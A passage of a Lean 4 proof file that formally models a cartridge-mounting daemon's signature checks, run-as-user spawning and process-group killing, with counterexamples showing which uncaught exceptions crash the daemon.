    ∧ (monRun none initState [.ev evGoodA, .ev evRemoveASurvivors]).state.running = []
    ∧ (monRun none initState [.ev evGoodA, .ev evRemoveASurvivors]).exitKind
        = .stillRunning := by
  decide

/-- C3 amended: for a Remove event on a tracked device_node, the mapping
entry is popped (so the device_node is no longer tracked) and the kill
routine completes without error in every behavior: nothing is signalled
if the direct child already exited (treated as success, even if group
members survive it); otherwise SIGTERM goes to the whole process group
and the daemon waits about 3 seconds for the DIRECT CHILD, sending a
forced SIGKILL to the group only if the child has not exited within the
grace period — so group members that survive SIGTERM after the child
exits in grace are never force-killed, while a SIGKILL, once sent, ends
the whole group. -/
theorem removal_kill_discipline (user : Option String) (st : MonState)
    (inp : EventInput) (node : String) (entry : String × Proc)
    (hc : classify inp.device = some (Action.remove, node))
    (hd : st.last_event ≠ some (Action.remove, node))
    (hf : st.running.find? (fun pr => pr.1 = node) = some entry) :
    ∃ st1, monStep user st inp = .ok st1
      ∧ st1.running.find? (fun pr => pr.1 = node) = none
      ∧ st1.killedLog = st.killedLog ++ [entry.2]
      ∧ st1.killRecs = st.killRecs ++ [kill_cart_process inp.killB]
      ∧ (∀ b, inp.killB = .alreadyExited b →
          kill_cart_process inp.killB
            = { polledDead := true, sentTerm := false, waitedGrace := false,
                sentKill := false, groupTerminated := !b })
      ∧ (∀ b, inp.killB = .childExitsInGrace b →
          kill_cart_process inp.killB
            = { polledDead := false, sentTerm := true, waitedGrace := true,
                sentKill := false, groupTerminated := !b })
      ∧ (inp.killB = .childIgnoresTerm →
          kill_cart_process inp.killB
            = { polledDead := false, sentTerm := true, waitedGrace := true,
                sentKill := true, groupTerminated := true }) := by
  have hfind : ∀ l : List (String × Proc),
      (l.filter (fun pr => pr.1 ≠ node)).find? (fun pr => pr.1 = node) = none := by
    intro l
    apply List.find?_eq_none.mpr
    intro x hx
    have := (List.mem_filter.mp hx).2
    simpa using this
  refine ⟨{ st with
      last_event := some (Action.remove, node)
      running := st.running.filter (fun pr => pr.1 ≠ node)
      alive := st.alive.filter (fun q => q ≠ entry.2)
      killedLog := st.killedLog ++ [entry.2]
      killRecs := st.killRecs ++ [kill_cart_process inp.killB] },
    ?_, ?_, ?_, ?_, ?_, ?_, ?_⟩
  · unfold monStep
    rw [hc]
    dsimp only
    rw [if_neg (by simpa using hd)]
    unfold dispatch
    dsimp only
    rw [hf]
  · exact hfind st.running
  · rfl
  · rfl
  · intro b hk
    rw [hk]
    rfl
  · intro b hk
    rw [hk]
    rfl
  · intro hk
    rw [hk]
    rfl

theorem removal_kill_discipline_witness :
    ∃ st1, monStep none stTracked evRemoveAOk = .ok st1
      ∧ st1.running.find? (fun pr => pr.1 = "/dev/mmcblk0") = none
      ∧ st1.killedLog = stTracked.killedLog ++ [("/dev/mmcblk0", pA).2]
      ∧ st1.killRecs = stTracked.killRecs ++ [kill_cart_process evRemoveAOk.killB]
      ∧ (∀ b, evRemoveAOk.killB = .alreadyExited b →
          kill_cart_process evRemoveAOk.killB
            = { polledDead := true, sentTerm := false, waitedGrace := false,
                sentKill := false, groupTerminated := !b })
      ∧ (∀ b, evRemoveAOk.killB = .childExitsInGrace b →
          kill_cart_process evRemoveAOk.killB
            = { polledDead := false, sentTerm := true, waitedGrace := true,
                sentKill := false, groupTerminated := !b })
      ∧ (evRemoveAOk.killB = .childIgnoresTerm →
          kill_cart_process evRemoveAOk.killB
            = { polledDead := false, sentTerm := true, waitedGrace := true,
                sentKill := true, groupTerminated := true }) := by
  exact removal_kill_discipline none stTracked evRemoveAOk "/dev/mmcblk0"
    ("/dev/mmcblk0", pA) (by decide) (by decide) (by decide)

/-- C4 counterexample: with manifest, signature and trust store all
present but the external verifier impossible to invoke, `check_call`
raises an `OSError` that `verify_cart_signature` does not catch (it
catches only `CalledProcessError`), so the exception escapes the event
loop and the daemon dies — the claim that all four trust-failure causes
are non-fatal with no escaping exception is false. -/
theorem verifier_invocation_failure_escapes :
    (monRun none initState [.ev evInvokeFailA]).exitKind = .uncaughtExc .oserror
    ∧ (monRun none initState [.ev evInvokeFailA]).state.spawnedLog = [] := by
  decide

/-- C4 amended: a missing signature file, a missing trusted-signer store,
and a verifier rejection each yield the strictly-false verdict with its
own distinct logged reason, block execution, and let no exception escape
(the result is a plain skip); a verifier invocation failure instead
raises an uncaught `OSError` out of `start_cart_process`, which the event
loop does not catch (the counterexample) — though it still never spawns. -/
theorem trust_failure_reasons :
    (∀ e : CartEnv, e.sig_exists = false →
      verify_cart_signature e = .ok (false, "ERROR: cart.yaml.sig missing"))
    ∧ (∀ e : CartEnv, e.sig_exists = true → e.pubkey_exists = false →
        verify_cart_signature e = .ok (false, "ERROR: Trusted public key missing"))
    ∧ (∀ e : CartEnv, e.sig_exists = true → e.pubkey_exists = true →
        e.verifier e.cart_bytes_v = .exitNonzero →
        verify_cart_signature e = .ok (false, "ERROR: Signature verification FAILED"))
    ∧ ("ERROR: cart.yaml.sig missing" ≠ "ERROR: Trusted public key missing"
        ∧ "ERROR: cart.yaml.sig missing" ≠ "ERROR: Signature verification FAILED"
        ∧ "ERROR: Trusted public key missing" ≠ "ERROR: Signature verification FAILED")
    ∧ (∀ (e : CartEnv) (u : Option String), trustFailure e = true →
        ∃ r, start_cart_process e u = .skip r)
    ∧ (∀ (e : CartEnv) (u : Option String), e.cart_exists = true → e.sig_exists = true →
        e.pubkey_exists = true → e.verifier e.cart_bytes_v = .invokeFail →
        start_cart_process e u = .exc .oserror) := by
  refine ⟨?_, ?_, ?_, ⟨by decide, by decide, by decide⟩, ?_, ?_⟩
  · intro e hs
    unfold verify_cart_signature
    rw [hs]
    rfl
  · intro e hs hp
    unfold verify_cart_signature
    rw [hs, hp]
    rfl
  · intro e hs hp hv
    unfold verify_cart_signature
    rw [hs, hp, hv]
    rfl
  · intro e u h
    unfold start_cart_process
    rcases hc : e.cart_exists with _ | _
    · exact ⟨_, rfl⟩
    · obtain ⟨r, hr⟩ := verify_not_trusted e h
      rw [hr]
      exact ⟨_, rfl⟩
  · intro e u hc hs hp hv
    unfold start_cart_process verify_cart_signature
    rw [hc, hs, hp, hv]
    rfl

theorem trust_failure_reasons_witness :
    verify_cart_signature envSigMissing = .ok (false, "ERROR: cart.yaml.sig missing")
    ∧ verify_cart_signature envPubkeyMissing = .ok (false, "ERROR: Trusted public key missing")
    ∧ verify_cart_signature envRejected = .ok (false, "ERROR: Signature verification FAILED")
    ∧ (∃ r, start_cart_process envRejected none = StartResult.skip r)
    ∧ start_cart_process envInvokeFail none = .exc .oserror := by
  refine ⟨trust_failure_reasons.1 envSigMissing rfl,
    trust_failure_reasons.2.1 envPubkeyMissing rfl rfl,
    trust_failure_reasons.2.2.1 envRejected rfl rfl rfl,
    trust_failure_reasons.2.2.2.2.1 envRejected none (by decide),
    trust_failure_reasons.2.2.2.2.2 envInvokeFail none rfl rfl rfl rfl⟩

/-- C5 counterexample: a trusted insert whose configured run-as account
is unknown, followed by a second, perfectly processable trusted insert on
another device.  `pwd.getpwnam` raises `KeyError`, nothing in the loop
catches it, and the daemon dies before the second event: the failure is
fatal to the daemon, not to that spawn attempt only. -/
theorem unknown_user_crashes_daemon :
    (monRun (some "alice") initState [.ev evUnknownUserA, .ev evGoodB]).exitKind
      = .uncaughtExc .keyError
    ∧ (monRun (some "alice") initState [.ev evUnknownUserA, .ev evGoodB]).state.spawnedLog = []
    ∧ (monRun (some "alice") initState
        [.ev evUnknownUserA, .ev evGoodB]).state.last_event
        = some (Action.insert, "/dev/mmcblk0") := by
  decide

/-- C5 amended: when a run-as account is configured, every spawn runs as
exactly that account — an unresolvable account never spawns and never
falls back to the daemon's own identity — but the resolution failure is
an uncaught `KeyError` that propagates out of the loop iteration and
terminates the daemon, rather than being fatal to that spawn attempt
only. -/
theorem user_resolution_never_falls_back :
    (∀ (e : CartEnv) (u : Option String) (s : String) (o : Option String),
      start_cart_process e u = .spawn s o → o = u)
    ∧ (∀ (e : CartEnv) (u : String), e.known_user u = false →
        ∀ (s : String) (o : Option String), start_cart_process e (some u) ≠ .spawn s o)
    ∧ (∀ (user : Option String) (st : MonState) (inp : EventInput)
        (ev : Action × String) (ex : PyExc),
        classify inp.device = some ev → st.last_event ≠ some ev →
        inp.mount.isSome = true → ev.1 = Action.insert →
        start_cart_process inp.env user = .exc ex →
        ∃ st1, monStep user st inp = .error (st1, ex)) := by
  have spawn_shape : ∀ (e : CartEnv) (u : Option String) (s : String) (o : Option String),
      start_cart_process e u = .spawn s o → o = u := by
    intro e u s o h
    unfold start_cart_process at h
    split at h
    · cases h
    · split at h
      · cases h
      · split at h
        · cases h
        · split at h
          · cases h
          · split at h
            · cases h
            · split at h
              · cases h
              · cases h
              · split at h
                · cases h
                · split at h
                  · cases h
                    rfl
                  · split at h
                    · cases h
                      rfl
                    · cases h
  refine ⟨spawn_shape, ?_, ?_⟩
  · intro e u hu s o h
    unfold start_cart_process at h
    split at h
    · cases h
    · split at h
      · cases h
      · split at h
        · cases h
        · split at h
          · cases h
          · split at h
            · cases h
            · split at h
              · cases h
              · cases h
              · split at h
                · cases h
                · rename_i script hsub
                  split at h
                  · rename_i hk
                    cases hk
                  · rename_i u2 hequ
                    split at h
                    · rename_i hk
                      have hu2 : u2 = u := by
                        injection hequ with hh
                        exact hh.symm
                      rw [hu2, hu] at hk
                      exact Bool.noConfusion hk
                    · cases h
  · intro user st inp ev ex hc hd hm hins hexc
    rcases ev with ⟨act, node⟩
    cases act
    · unfold monStep
      rw [hc]
      dsimp only
      rw [if_neg (by simpa using hd)]
      unfold dispatch
      dsimp only
      rcases hmm : inp.mount with _ | mp
      · rw [hmm] at hm
        exact Bool.noConfusion hm
      · dsimp only
        rw [hexc]
        exact ⟨_, rfl⟩
    · cases hins

theorem user_resolution_never_falls_back_witness :
    (start_cart_process envGood (some "alice") = .spawn "./run.sh" (some "alice")
      → some "alice" = some "alice")
    ∧ start_cart_process envUnknownUser (some "alice") ≠ .spawn "./run.sh" none
    ∧ ∃ st1, monStep (some "alice") initState evUnknownUserA = .error (st1, .keyError) := by
  refine ⟨?_, ?_, ?_⟩
  · exact user_resolution_never_falls_back.1 envGood (some "alice") "./run.sh" (some "alice")
  · exact user_resolution_never_falls_back.2.1 envUnknownUser "alice" (by decide)
      "./run.sh" none
  · exact user_resolution_never_falls_back.2.2 (some "alice") initState evUnknownUserA
      (Action.insert, "/dev/mmcblk0") .keyError (by decide) (by decide) (by decide)
      (by decide) (by decide)

/-- C6 counterexample: a trusted cart whose `cart.yaml` fails to parse.
`yaml.safe_load` runs outside any `try/except`, so the parse error is an
uncaught exception that escapes `start_cart_process` and the event loop,
crashing the daemon — not a non-fatal logged skip. -/
theorem malformed_manifest_parse_raises :
    start_cart_process envParseError none = .exc .yamlError
    ∧ (monRun none initState [.ev evParseErrorA]).exitKind = .uncaughtExc .yamlError := by
  decide

/-- C6 amended: a missing `cart.yaml`, a manifest parsing to a falsy
document, or one parsing to a mapping without an `exec` key, a list not
containing the string `exec`, or a nonempty string not containing it,
all skip execution non-fatally with a logged reason; but a manifest that
fails to parse raises an uncaught parse error (the counterexample), and
one parsing to a truthy non-container scalar raises an uncaught
`TypeError` from the `in` check — both escape the event loop. -/
theorem manifest_shape_handling :
    (∀ (e : CartEnv) (u : Option String), e.cart_exists = false →
      start_cart_process e u = .skip "No cart.yaml detected")
    ∧ (∀ (e : CartEnv) (u : Option String) (cfg : Yaml),
        verify_cart_signature e = .ok (true, "Signature verification OK") →
        e.cart_exists = true → e.cart_parse_e = .ok cfg → yTruthy cfg = false →
        start_cart_process e u = .skip "No exec field in cart.yaml")
    ∧ (∀ (e : CartEnv) (u : Option String) (cfg : Yaml),
        verify_cart_signature e = .ok (true, "Signature verification OK") →
        e.cart_exists = true → e.cart_parse_e = .ok cfg → yTruthy cfg = true →
        yMember "exec" cfg = .ok false →
        start_cart_process e u = .skip "No exec field in cart.yaml")
    ∧ (∀ (e : CartEnv) (u : Option String),
        verify_cart_signature e = .ok (true, "Signature verification OK") →
        e.cart_exists = true → e.cart_parse_e = .parseError →
        start_cart_process e u = .exc .yamlError)
    ∧ (∀ (e : CartEnv) (u : Option String) (n : Int),
        verify_cart_signature e = .ok (true, "Signature verification OK") →
        e.cart_exists = true → e.cart_parse_e = .ok (.yInt n) → n ≠ 0 →
        start_cart_process e u = .exc .typeError) := by
  refine ⟨?_, ?_, ?_, ?_, ?_⟩
  · intro e u hc
    unfold start_cart_process
    rw [hc]
    rfl
  · intro e u cfg hv hc hp ht
    unfold start_cart_process
    rw [hc, hv, hp]
    dsimp only
    rw [ht]
    rfl
  · intro e u cfg hv hc hp ht hm
    unfold start_cart_process
    rw [hc, hv, hp]
    dsimp only
    rw [ht, hm]
    rfl
  · intro e u hv hc hp
    unfold start_cart_process
    rw [hc, hv, hp]
    rfl
  · intro e u n hv hc hp hn
    unfold start_cart_process
    rw [hc, hv, hp]
    dsimp only
    rw [show yTruthy (Yaml.yInt n) = true by simp [yTruthy, hn]]
    rfl

theorem manifest_shape_handling_witness :
    start_cart_process { envGood with cart_exists := false } none
      = .skip "No cart.yaml detected"
    ∧ start_cart_process envNullDoc none = .skip "No exec field in cart.yaml"
    ∧ start_cart_process envDictNoExec none = .skip "No exec field in cart.yaml"
    ∧ start_cart_process envParseError (some "alice") = .exc .yamlError
    ∧ start_cart_process envIntDoc none = .exc .typeError := by
  refine ⟨manifest_shape_handling.1 { envGood with cart_exists := false } none rfl,
    manifest_shape_handling.2.1 envNullDoc none .yNull rfl rfl rfl rfl,
    manifest_shape_handling.2.2.1 envDictNoExec none (.yDict [("run", "x")]) rfl
      rfl rfl (by decide) rfl,
    manifest_shape_handling.2.2.2.1 envParseError (some "alice") rfl rfl rfl,
    manifest_shape_handling.2.2.2.2 envIntDoc none 42 rfl rfl rfl (by decide)⟩

/-- C9 counterexample: with one tracked running cart, the notification
bus fails.  The `OSError` from `monitor.poll` is not a
`KeyboardInterrupt`, so the kill-all handler never runs: the daemon
exits nonzero having killed nothing, with the payload still alive. -/
theorem bus_failure_kills_nothing :
    (monRun none initState [.ev evGoodA, .busError]).exitKind = .uncaughtBusError
    ∧ exitCode (monRun none initState [.ev evGoodA, .busError]).exitKind = some 1
    ∧ (monRun none initState [.ev evGoodA, .busError]).state.killedLog = []
    ∧ (monRun none initState [.ev evGoodA, .busError]).state.alive ≠ [] := by
  decide

theorem handlerLoop_all_killed (kb : Nat → KillBehavior) (ps : List Proc)
    (i : Nat) (st : MonState) :
    (handlerLoop kb i st ps).exitKind = .cleanExit
    ∧ (handlerLoop kb i st ps).state.killedLog = st.killedLog ++ ps := by
  induction ps generalizing i st with
  | nil => exact ⟨rfl, (List.append_nil _).symm⟩
  | cons p ps ih =>
    unfold handlerLoop
    obtain ⟨h1, h2⟩ := ih (i + 1)
      { st with alive := st.alive.filter (fun q => q ≠ p),
                killedLog := st.killedLog ++ [p],
                killRecs := st.killRecs ++ [kill_cart_process (kb i)] }
    refine ⟨h1, ?_⟩
    rw [h2]
    simp

/-- C9 amended: on shutdown via interrupt, the handler invokes the kill
routine on every tracked RunningCart in turn and the daemon exits
cleanly; on a device-notification bus failure the daemon exits non-zero
but WITHOUT attempting to kill any tracked payload process — the state
is returned untouched. -/
theorem shutdown_and_bus_failure_behaviour :
    (∀ (user : Option String) (st : MonState) (kb : Nat → KillBehavior)
      (rest : List StreamItem),
      (monRun user st (.interrupt kb :: rest)).exitKind = .cleanExit
      ∧ (monRun user st (.interrupt kb :: rest)).state.killedLog
          = st.killedLog ++ st.running.map (fun pr => pr.2))
    ∧ (∀ (user : Option String) (st : MonState) (rest : List StreamItem),
        monRun user st (.busError :: rest) = ⟨st, .uncaughtBusError⟩
        ∧ exitCode (monRun user st (.busError :: rest)).exitKind = some 1) := by
  constructor
  · intro user st kb rest
    exact handlerLoop_all_killed kb (st.running.map (fun pr => pr.2)) 0 st
  · intro user st rest
    exact ⟨rfl, rfl⟩

theorem shutdown_and_bus_failure_behaviour_witness :
    (monRun none stTracked
        [.interrupt (fun _ => .childExitsInGrace false)]).exitKind = .cleanExit
    ∧ (monRun none stTracked
        [.interrupt (fun _ => .childExitsInGrace false)]).state.killedLog
        = stTracked.killedLog ++ stTracked.running.map (fun pr => pr.2) := by
  exact (shutdown_and_bus_failure_behaviour.1 none stTracked
    (fun _ => .childExitsInGrace false) [])

end SHIP86
